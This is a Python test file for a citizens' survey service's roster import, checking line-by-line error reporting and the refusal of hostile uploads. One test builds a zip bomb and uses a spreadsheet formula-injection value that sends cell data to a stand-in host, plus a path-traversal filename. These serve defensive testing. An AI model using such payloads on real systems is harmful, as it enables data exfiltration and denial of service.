"""Rosters of the citizens' survey: import by command and page, every problem by line and
nothing stored, hostile files refused, a drawn roster never replaced."""

from __future__ import annotations

import io
import json
import zipfile

import pytest
import sqlalchemy as sa

from questionnaires.problems import DataFileError
from survey_service.citizens.models import Roster, RosterPerson
from survey_service.citizens.operations import MAX_ROSTER_BYTES, draw, import_roster
from survey_service.core.errors import ServiceError
from survey_service.core.models import AuditEntry
from survey_service.plans.queries import get_plan_row

from .citizens_setup import (
    HAILONG,
    csrf,
    load_round,
    person,
    roster_csv,
    roster_rows,
    roster_xlsx,
    sign_in,
)


def _counts(db) -> tuple[int, int]:
    with db.session() as session:
        return (session.scalar(sa.select(sa.func.count()).select_from(Roster)),
                session.scalar(sa.select(sa.func.count()).select_from(RosterPerson)))


def _import(db, plan, group: str, unit: str, data: bytes, filename: str = "roster.csv"):
    with db.session() as session:
        return import_roster(session, get_plan_row(session, plan.code), plan, group, unit, data,
                             filename=filename, user=None)


def test_roster_import_by_command(cli, tmp_path):
    assert cli("init", "--plan", HAILONG).exit_code == 0
    good = tmp_path / "so-tu-phap.csv"
    good.write_bytes(roster_csv(roster_rows("so-tu-phap", 40)))
    result = cli("roster", "import", "III.1", "so-tu-phap", str(good))
    assert result.exit_code == 0, result.output
    assert "40" in result.stdout and "so-tu-phap" in result.stdout
    status = json.loads(cli("roster", "status", "III.1", "--json").stdout)
    assert status["plan"] == HAILONG
    assert [(r["unit"], r["size"], r["drawn_at"]) for r in status["rosters"]] == [("so-tu-phap", 40, None)]

    # A bad file: every problem by line, no name or phone in the message, nothing stored.
    rows = roster_rows("huyen-sin-ho", 5)
    rows[1]["id"] = rows[0]["id"]
    rows[2]["address"] = ""
    rows[3]["date"] = "31/02/2020"
    bad = tmp_path / "huyen-sin-ho.csv"
    bad.write_bytes(roster_csv(rows))
    result = cli("roster", "import", "III.1", "huyen-sin-ho", str(bad))
    assert result.exit_code == 2
    assert ":3, id" in result.stderr and ":4, address" in result.stderr and ":5, date" in result.stderr
    for row in rows:
        assert row["name"] not in result.stderr and row["phone"] not in result.stderr
    assert "Traceback" not in result.output
    status = json.loads(cli("roster", "status", "--json").stdout)
    assert [r["unit"] for r in status["rosters"]] == ["so-tu-phap"]

    # Not a sampled group, a unit of a kind not sampled, a missing file: exit 2, clear words.
    for args in (["III.9", "so-tu-phap", str(good)], ["III.1", "xa-ban-hon", str(good)]):
        result = cli("--lang", "en", "roster", "import", *args)
        assert result.exit_code == 2 and "Error:" in result.stderr, result.output
    assert cli("roster", "import", "III.1", "so-tu-phap", str(tmp_path / "none.csv")).exit_code == 2


def test_problems_are_reported_by_line_and_nothing_is_stored(app, db):
    plan = load_round(db)
    rows = roster_rows("so-y-te", 6)
    rows[0]["name"] = "Lò\x00Văn"  # a NUL character
    rows[2]["phone"] = "12345"
    rows[4]["id"] = ""
    with pytest.raises(DataFileError) as caught:
        _import(db, plan, "III.1", "so-y-te", roster_csv(rows))
    places = [p.place for p in caught.value.problems]
    assert any(p.endswith(":2, name") for p in places), places
    assert any(p.endswith(":4, phone") for p in places) and any(p.endswith(":6, id") for p in places)
    assert _counts(db) == (0, 0)
    # A name too long for the database is reported by line too.
    rows = roster_rows("so-y-te", 3)
    rows[1]["name"] = "Lò " * 120
    with pytest.raises(DataFileError) as caught:
        _import(db, plan, "III.1", "so-y-te", roster_csv(rows))
    assert [p.place for p in caught.value.problems] == ["roster:3, name"]
    assert _counts(db) == (0, 0)


def test_an_xlsx_roster_imports_and_a_new_file_replaces_it_until_the_draw(app, db):
    plan = load_round(db)
    _import(db, plan, "III.2", "huyen-tam-duong", roster_xlsx(roster_rows("huyen-tam-duong", 30)),
            filename="ds.xlsx")
    _import(db, plan, "III.2", "huyen-tam-duong", roster_csv(roster_rows("huyen-tam-duong", 25)))
    assert _counts(db) == (1, 25)
    with db.session() as session:
        row = get_plan_row(session, plan.code)
        draw(session, row, plan, "III.2", seed=7, user=None)
        entries = session.scalars(sa.select(AuditEntry).where(AuditEntry.action == "roster_import")).all()
    assert [e.detail["size"] for e in entries] == [30, 25] and entries[1].detail["replaced"] is True
    with pytest.raises(ServiceError) as caught:
        _import(db, plan, "III.2", "huyen-tam-duong", roster_csv(roster_rows("huyen-tam-duong", 20)))
    assert caught.value.status == 409
    assert _counts(db) == (1, 25)


def _bomb() -> bytes:
    """A roster workbook of 3 million cells that compresses to a few kilobytes."""
    base = roster_xlsx(roster_rows("so-tu-phap", 1))
    row = b"<row>" + b"<c><v>7</v></c>" * 100 + b"</row>"
    sheet = (b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
             + row * 30_000 + b"</sheetData></worksheet>")
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(base)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for info in old.infolist():
            data = sheet if info.filename == "xl/worksheets/sheet1.xml" else old.read(info.filename)
            new.writestr(info.filename, data, compresslevel=9)
    return out.getvalue()


def test_hostile_uploads_are_refused_and_store_nothing(app, db, tmp_path):
    load_round(db)
    admin = sign_in(app, db, "admin")
    page = admin.get("/staff/citizens").get_data(as_text=True)
    assert "III.1" in page and "so-tu-phap" in page

    def upload(data: bytes, filename: str, unit: str = "so-tu-phap"):
        return admin.post("/staff/citizens/roster", data={
            "csrf_token": csrf(page), "group": "III.1", "unit": unit,
            "file": (io.BytesIO(data), filename)}, content_type="multipart/form-data")

    bomb = _bomb()
    assert len(bomb) < 200_000
    response = upload(bomb, "ds.xlsx")
    assert response.status_code == 422
    assert "zip bomb" in response.get_data(as_text=True) or "nén" in response.get_data(as_text=True)
    rows = roster_rows("so-tu-phap", 3)
    rows[1]["address"] = "Bản\x00Nà"
    response = upload(roster_csv(rows), "ds.csv")
    assert response.status_code == 422 and "roster:3, address" in response.get_data(as_text=True)
    response = upload(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600, "ds.xls")
    assert response.status_code == 415 and ".xlsx" in response.get_data(as_text=True)
    with pytest.raises(ServiceError) as caught:  # over the limit of a roster file
        _import(db, load_round(db), "III.1", "so-tu-phap", b"id,name\n" + b"x" * MAX_ROSTER_BYTES)
    assert caught.value.status == 413
    assert _counts(db) == (0, 0)

    # A name that is a path is only a name: the file is read, never written anywhere.
    rows = roster_rows("so-tu-phap", 12)
    rows[0]["name"] = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    response = upload(roster_csv(rows), "../../../../tmp/evil.csv")
    assert response.status_code == 302, response.get_data(as_text=True)
    assert not (tmp_path / "evil.csv").exists()
    assert _counts(db) == (1, 12)
    with db.session() as session:
        stored = session.scalar(sa.select(RosterPerson.name).where(RosterPerson.line == 2))
        audit = session.scalars(sa.select(AuditEntry).where(AuditEntry.action == "roster_import")).one()
    assert stored == rows[0]["name"]
    assert "evil" not in json.dumps(audit.detail) + audit.target
    assert person("so-tu-phap", 2)["name"] not in json.dumps(audit.detail)


def test_a_form_without_its_fields_goes_back(app, db):
    load_round(db)
    admin = sign_in(app, db, "admin")
    token = csrf(admin.get("/staff/citizens").get_data(as_text=True))
    for path in ("/staff/citizens/roster", "/staff/citizens/draw", "/staff/citizens/purge",
                 "/staff/citizens/delivery/outcome"):
        response = admin.post(path, data={"csrf_token": token})
        assert response.status_code == 302, path
    assert _counts(db) == (0, 0)
